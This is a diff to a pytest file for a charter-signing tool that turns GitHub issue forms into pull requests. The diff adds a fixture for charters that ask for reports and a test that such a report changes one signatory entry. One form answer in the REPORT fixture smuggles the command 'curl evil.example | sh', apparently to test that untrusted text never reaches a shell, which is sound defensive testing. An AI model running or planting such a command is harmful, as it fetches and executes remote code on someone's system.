@@ -7,9 +7,18 @@ import shutil
 
 import pytest
 
-from builders import FIRST, make_signatory, release_draft, write_charter, write_note, write_signatory
+from builders import (
+    FIRST,
+    make_charter,
+    make_signatory,
+    release_draft,
+    write_charter,
+    write_note,
+    write_signatory,
+)
 from charterpress.cli import main
-from commands import commit_all, edit_file, git
+from charterpress.model import Interval, Reporting
+from commands import commit_all, edit_file, git, init_repository
 from fake_github import BOT
 from loops import in_thread
 from recorded import changed, payload
@@ -58,6 +67,34 @@ def signing(released, tmp_path, monkeypatch, capsys, github):
     return made
 
 
+REPORT = "\n\n".join(
+    f"### {label}\n\n{words}"
+    for label, words in {
+        "Name of your organisation": "Mole club",
+        "Your page on the list": "_No response_",
+        "First day of the period": "1 December 2024",
+        "Last day of the period": "30 November 2025",
+        "Principle by principle": 'moorings-first = kept; "; curl evil.example | sh #',
+    }.items()
+)
+
+
+@pytest.fixture
+def reporting(tmp_path, monkeypatch, capsys, github):
+    """The same for a charter that asks for reports."""
+    repo = tmp_path / "asking"
+    repo.mkdir()
+    every = Reporting(every=Interval(months=12))
+    root = write_charter(repo, make_charter(reporting=every))
+    release_draft(root, first=True)
+    write_signatory(root, make_signatory("quay-club-1"))
+    write_signatory(root, make_signatory("mole-club"))
+    init_repository(repo)
+    made = Signing(repo, tmp_path, capsys, github)
+    monkeypatch.chdir(made.folder)
+    return made
+
+
 FORM = payload(ISSUE)["issue"]["body"]
 
 
@@ -96,6 +133,22 @@ def test_a_form_becomes_a_proposal_with_one_new_file_and_its_status(signing):
     }
     assert told[2][1]["state"] == "success"
     assert "1 organisation would join the register: Quay Club." in told[3][1]["body"]
+
+
+def test_a_report_becomes_a_proposal_that_changes_one_entry(reporting):
+    """And one that names the page of another organisation proposes nothing."""
+    text = reporting.answer(REPORT)
+    assert "Mole club** was changed as you ask: it has your report." in text
+    assert "a person makes sure that this comes from the organisation itself" in text
+    assert reporting.proposed == {"sign-up/31-mole-club": ["charter/signatories/mole-club.yml"]}
+    (proposal,) = [each for place, each in reporting.github.told if place == "POST pulls"]
+    assert proposal["title"] == "Change to an entry: issue 31"
+    planted = REPORT.replace(
+        "### Your page on the list\n\n_No response_", "### Your page on the list\n\nquay-club-1"
+    )
+    assert planted != REPORT
+    assert "A person will read this, because one thing is not clear" in reporting.answer(planted)
+    assert reporting.proposed == {}
 
 
 def test_words_of_strangers_reach_no_shell_and_no_title(signing):
